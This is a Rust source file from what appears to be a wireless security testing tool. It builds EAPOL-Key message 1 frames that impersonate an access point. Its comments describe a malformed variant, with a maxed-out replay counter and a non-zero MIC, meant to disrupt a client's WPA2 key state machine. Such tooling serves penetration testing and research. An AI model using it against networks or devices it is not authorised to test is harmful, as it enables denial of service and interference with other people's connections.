/* This Source Code Form is subject to the terms of the Mozilla Public
 * License, v. 2.0. If a copy of the MPL was not distributed with this
 * file, You can obtain one at https://mozilla.org/MPL/2.0/.
 *
 * (c) 2024 The Nightjar Authors.
 */

//! EAPOL-Key message 1 framing. Every attack frame that carries a key
//! descriptor (`eapol_m1_malformed`, `rogue_m2`) sends an M1 impersonating
//! the AP — we never forge an M2, since that must genuinely come from the
//! client holding the PMK.

use nightjar_util::Buffer;

const EAPOL_VERSION: u8 = 2;
const EAPOL_TYPE_KEY: u8 = 3;
const DESCRIPTOR_TYPE_RSN: u8 = 2;

/// Pairwise, Ack set, MIC clear, Install clear — the key-info bits a
/// legitimate WPA2 M1 carries.
const KEY_INFO_M1: u16 = 0x008a;

const NONCE_LEN: usize = 32;
const IV_LEN: usize = 16;
const RSC_LEN: usize = 8;
const RESERVED_LEN: usize = 8;
const MIC_LEN: usize = 16;

/// Fixed portion of the EAPOL-Key body, not counting the 802.1X header or
/// the variable-length key data.
const KEY_BODY_FIXED_LEN: usize = 1 + 2 + 2 + 8 + NONCE_LEN + IV_LEN + RSC_LEN + RESERVED_LEN + MIC_LEN + 2;

/// Append an 802.1X-framed EAPOL-Key message 1.
///
/// `replay_counter` of `u64::MAX` is the "corrupted replay counter" the
/// `eapol_m1_malformed` builder uses deliberately to disrupt the client's
/// key state machine; a real M1 increments from a small value.
/// `mic` is normally all-zero (M1 never carries a real MIC); passing a
/// non-zero pattern is the other half of that same malformed variant.
pub fn write_eapol_key_m1<const L: usize>(buf: &mut Buffer<L>, replay_counter: u64, nonce: &[u8; NONCE_LEN], mic: &[u8; MIC_LEN]) {
    let key_data_len: u16 = 0;
    let body_len = KEY_BODY_FIXED_LEN as u16;

    buf.append_u8(EAPOL_VERSION).expect("frame fits");
    buf.append_u8(EAPOL_TYPE_KEY).expect("frame fits");
    buf.append_u16_be(body_len).expect("frame fits");

    buf.append_u8(DESCRIPTOR_TYPE_RSN).expect("frame fits");
    buf.append_u16_be(KEY_INFO_M1).expect("frame fits");
    buf.append_u16_be(0).expect("frame fits"); // key length: unset until M3
    buf.append_u64_be(replay_counter).expect("frame fits");
    buf.append_bytes_fixed(nonce).expect("frame fits");
    buf.append_padding(0, IV_LEN).expect("frame fits");
    buf.append_padding(0, RSC_LEN).expect("frame fits");
    buf.append_padding(0, RESERVED_LEN).expect("frame fits");
    buf.append_bytes_fixed(mic).expect("frame fits");
    buf.append_u16_be(key_data_len).expect("frame fits");
}

pub fn eapol_key_m1_len() -> usize {
    4 + KEY_BODY_FIXED_LEN
}
